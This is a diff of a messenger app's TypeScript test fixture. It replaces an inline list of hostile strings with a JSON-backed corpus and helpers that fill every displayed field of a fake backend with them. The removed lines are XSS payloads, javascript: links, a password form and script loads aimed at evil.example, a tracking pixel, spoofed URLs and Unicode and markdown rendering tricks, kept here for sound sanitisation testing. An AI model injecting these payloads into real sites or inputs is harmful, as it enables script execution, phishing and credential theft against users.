@@ -1,66 +1,101 @@
-/** Strings that have broken messengers: none may become anything but text and the fixed elements of messages. */
-export const HOSTILE = [
-  '<script>alert(1)</script>',
-  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
-  '"><script>alert(1)</script>',
-  '</div></div><script>alert(1)</script>',
-  '<img src=x onerror="alert(1)"><b>bold</b>',
-  '<img/src=x/onerror=alert(1)>',
-  '<image src onerror=alert(1)>',
-  '<svg onload=alert(1)>',
-  '<svg><script>alert(1)</script></svg>',
-  '<svg><use href="data:image/svg+xml,x#x"/></svg>',
-  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<iframe src="javascript:alert(1)">',
-  '<object data="data:text/html,<script>alert(1)</script>">',
-  '<embed src="javascript:alert(1)">',
-  '<a href="javascript:alert(1)">click</a>',
-  '<form action="https://evil.example"><input name=password><button>ok</button></form>',
-  '<style>*{display:none}</style>',
-  '<link rel=stylesheet href=//evil.example/x.css>',
-  '<meta http-equiv=refresh content="0;url=https://evil.example">',
-  '<base href="https://evil.example/">',
-  '<body onload=alert(1)>',
-  '<details open ontoggle=alert(1)>',
-  '<video><source onerror=alert(1)></video>',
-  '<audio src onerror=alert(1)>',
-  '<marquee onstart=alert(1)>x</marquee>',
-  '<template><script>alert(1)</script></template>',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  '<!--<img src="--><img src=x onerror=alert(1)>',
-  '<![CDATA[<script>alert(1)</script>]]>',
-  '<p style="background:url(javascript:alert(1))">',
-  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &amp;lt;',
-  '{@html "<img src=x onerror=alert(1)>"}',
-  '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= 1 %>',
-  'javascript:alert(1)',
-  'JaVaScRiPt:alert(1) java\tscript:alert(1) java\nscript:alert(1)',
-  'vbscript:msgbox(1) data:text/html,<script>alert(1)</script> file:///etc/passwd smb://evil.example/x',
-  '[click](javascript:alert(1)) [click](JAVASCRIPT:alert(1)) [click](java&#115;cript:alert(1))',
-  '[click](data:text/html;base64,PHNjcmlwdD4=) [click](vbscript:x) [click](file:///etc/passwd)',
-  '[click](\u0001javascript:alert(1)) [click]( javascript:alert(1))',
-  '[<img src=x onerror=alert(1)>](https://example.org/"onmouseover="alert(1))',
-  '![tracker](https://evil.example/pixel.png)',
-  '[https://bank.example](https://evil.example/)',
-  'https://bank.example@evil.example/ https://bank.example%40evil.example/',
-  'https://bank.example\\@evil.example/ https:\\\\evil.example http:/\\evil.example',
-  'https://xn--80ak6aa92e.com/ https://аррӏе.com/ https://example.org.\u2024evil.example/',
-  'https://example.org/"onclick="alert(1) https://example.org/\'onclick=\'alert(1)',
-  'https://example.org/<script>alert(1)</script>',
-  '**<script>**alert(1)**</script>** _<b>_ `<i>`',
-  '> <script>alert(1)</script>\n- <img src=x onerror=alert(1)>\n1. <svg onload=alert(1)>',
-  '```\n</pre><script>alert(1)</script>\n```',
-  'right \u202e to left https://example.org/\u202egpj.exe \u2066isolate\u2069 \u200f\u061c',
-  'zero\u200bwidth\u200c\u200d\u2060\ufeff https://exa\u200bmple.org p\u00ads\u00ado',
-  'nul \u0000 bell \u0007 escape \u001b[31m delete \u007f private \ue000 lone \ud800 x \udc00',
-  `zalgo ${'e\u0301\u0323\u0308'.repeat(300)}`,
-  `flags ${'👨‍👩‍👧‍👦🏳️‍🌈'.repeat(100)}`,
-  'ﷺﷺﷺ జ్ఞ‌ా \u0c1c\u0c4d\u0c1e\u200c\u0c3e لُلُصّبُلُلصّبُررً ॣ ॣh ॣ ॣ 冗',
-  '*'.repeat(4_000),
-  '**_'.repeat(1_333),
-  '**a _b *c '.repeat(400),
-  `${'> '.repeat(2_000)}deep`,
-  `${'['.repeat(2_000)}x${']('.repeat(1_000)}`,
-  'W'.repeat(4_000),
-];
+/**
+ * Strings that have broken messengers: none may become anything but text and the fixed elements of messages.
+ *
+ * They are in `hostile.json`, which the Rust tests read too. What is longer is written there as what is repeated.
+ */
+import corpus from './hostile.json';
+import type { Fake } from './lib/ipc/fake';
+import type { World } from './lib/ipc/fake/world';
+import type { PersonView } from './lib/ipc/engine';
+
+interface Repeated {
+  before?: string;
+  repeat: string;
+  times: number;
+  after?: string;
+}
+
+function whole(each: string | Repeated): string {
+  if (typeof each === 'string') return each;
+  return (each.before ?? '') + each.repeat.repeat(each.times) + (each.after ?? '');
+}
+
+/** Half a character: the wire refuses it, and JSON in a file cannot hold it. */
+const LONE = ['lone \ud800 x \udc00', '\udfff<b>'];
+
+export const HOSTILE: string[] = [...corpus.map(whole), ...LONE];
+
+/** The conversation in which the string of this number stands wherever a text of others can stand. */
+export const placeOf = (index: number) => `hostile-${index}`;
+export const peerOf = (index: number) => `hostile-person-${index}`;
+
+function peer(index: number, text: string): PersonView {
+  return {
+    id: peerOf(index),
+    username: `hostile${index}`,
+    display_name: text,
+    role: index % 3 === 0 ? text : null,
+    avatar: null,
+  };
+}
+
+/**
+ * Fills the twin's world: each string of a part as name, title, text, quote, preview, notice, reaction's name, draft and
+ * job.
+ */
+export function haunt(world: World, from = 0, to = HOSTILE.length): void {
+  HOSTILE.slice(from, to).forEach((text, at) => {
+    const index = from + at;
+    const person = peer(index, text);
+    const kind = index % 2 === 0 ? 'group' : 'direct';
+    const { view, items } = world.add(placeOf(index), text, [person], kind);
+    items.push({
+      type: 'notice',
+      id: `notice-${index}`,
+      order: 0.5,
+      ts: Date.now(),
+      actor: person,
+      what: { kind: 'title', text },
+    });
+    const first = world.push(view.id, person, text);
+    const answer = world.push(view.id, person, text, { id: first.id, sender: person, text, deleted: false });
+    answer.reactions = [{ emoji: '👍', count: 2, names: [text, text], mine: false }];
+    items.splice(-1, 1, { type: 'message', ...answer });
+    view.context = { kind: 'job', id: text.slice(0, 128) || 'x', title: text, link: 'https://example.org/' };
+    if (index % 4 === 1) view.draft = text;
+    if (index % 8 === 2) view.typing = [person];
+    if (index % 8 === 6) view.draft_conflict = text;
+    world.queue(view.id, text, { state: 'parked', code: 'not_allowed' });
+  });
+}
+
+/** The same for what the twin answers without its world: a search finds all of them, each is a device and a person. */
+export function hauntAnswers(fake: Fake): Fake {
+  const now = Date.now();
+  fake.search = async () => ({
+    hits: HOSTILE.map((text, index) => ({
+      conversation: placeOf(index),
+      conversation_title: text,
+      message: `hit-${index}`,
+      sender: peer(index, text),
+      ts: now,
+      snippet: [
+        { text, hit: false },
+        { text, hit: true },
+      ],
+    })),
+    more: false,
+    searched: HOSTILE.length,
+    total: HOSTILE.length,
+  });
+  fake.findPeople = async () => HOSTILE.map((text, index) => peer(index, text));
+  fake.sessions = async () =>
+    HOSTILE.map((name, index) => ({
+      device: `device-${index}`,
+      name,
+      created_at: now,
+      last_seen: now,
+      current: false,
+    }));
+  return fake;
+}
